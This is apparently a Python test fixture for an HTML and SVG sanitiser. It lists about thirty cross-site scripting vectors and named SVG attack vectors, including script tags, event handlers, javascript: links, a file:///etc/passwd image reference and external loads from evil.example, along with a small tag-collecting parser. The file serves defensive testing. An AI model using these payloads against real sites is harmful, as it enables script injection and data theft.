"""Hostile inputs the sanitiser, SVG and all-format tests share, and the tag reader
their checks of built pages use."""

from __future__ import annotations

from html.parser import HTMLParser

#: raw HTML vectors a lesson may carry
XSS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss-2')>",
    "<svg onload=alert('xss-3')><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert('xss-4')\"></iframe>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    "<a href=\"javascript:alert('xss-5')\">click</a>",
    "<a href=\"JaVaScRiPt&#58;alert('xss-6')\">click</a>",
    "<b onmouseover=\"alert('xss-7')\">bold</b>",
    '<span style="background:url(http://evil.example/t.png)">s</span>',
    "<style>body{background:url(http://evil.example/t.png)}</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=p></form>",
    "<details open ontoggle=alert('xss-8')>",
    "<body onload=alert('xss-9')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-10')>",
    '<img src="http://evil.example/pixel.png">',
    "<video><source onerror=\"alert('xss-11')\"></video>",
    "<audio src=http://evil.example/a.mp3 autoplay>",
    "<base href=http://evil.example/>",
    "<scr<script>ipt>alert('xss-12')</scr</script>ipt>",
    "<!--<img src=x onerror=alert('xss-13')>-->",
    "<abbr title='\" onmouseover=alert(14) x=\"'>ҚР</abbr>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-15')>\"></noscript>",
    "<template><img src=x onerror=alert('xss-16')></template>",
    "<textarea><img src=x onerror=alert('xss-17')></textarea>",
    "<isindex type=image src=1 onerror=alert('xss-18')>",
]

#: an SVG file around one vector
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">{}</svg>'

#: SVG elements that run code or fetch: none may survive sanitising
LIVE_ELEMENTS = {
    "script",
    "foreignObject",
    "iframe",
    "object",
    "embed",
    "set",
    "animate",
    "handler",
}

#: hostile SVG content, by name
VECTORS = {
    "script": "<script>alert(1)</script>",
    "script-cdata": "<script><![CDATA[alert(1)]]></script>",
    "prefixed-script": '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
    "xhtml-script": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "onload": '<rect width="1" height="1" onload="alert(1)" ONCLICK="alert(2)"/>',
    "foreign-object": "<foreignObject><iframe src='http://e.org'/></foreignObject>",
    "a-javascript": '<a href="javascript:alert(1)"><text>x</text></a>',
    "a-xlink-javascript": '<a xlink:href=" JaVaScRiPt:alert(1)"><text>x</text></a>',
    "use-http": '<use href="http://evil.example/x.svg#a"/>',
    "use-xlink-http": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "image-file": '<image href="file:///etc/passwd" width="1" height="1"/>',
    "image-http": '<image xlink:href="http://evil.example/track.png"/>',
    "image-svg-data": '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    "style-url": "<style>rect { fill: url(http://evil.example/x) }</style>",
    "style-import": '<style>@import "http://evil.example/a.css";</style>',
    "style-escape": "<style>rect { fill: u\\72l(http://evil.example/x) }</style>",
    "style-image-set": '<style>rect { background: image-set("http://e.org/a.png" 1x) }</style>',
    "style-attribute": '<rect style="fill: url( &quot;http://e.org/x&quot; )"/>',
    "fill-mixed": '<rect fill="url(#ok) url(http://evil.example/x)"/>',
    "filter-url": '<rect filter="URL(http://evil.example/f.svg#f)"/>',
    "animate-href": '<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>',
    "animate-values": '<animate attributeName="href" values="javascript:alert(1)"/>',
    "fe-image": '<filter><feImage href="http://evil.example/a.png"/></filter>',
    "iframe": "<iframe src='http://evil.example'/>",
    "embed": "<embed src='http://evil.example/a.swf'/>",
    "handler": "<handler type='application/ecmascript'>alert(1)</handler>",
}


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = Collector()
    collector.feed(page)
    return collector.tags
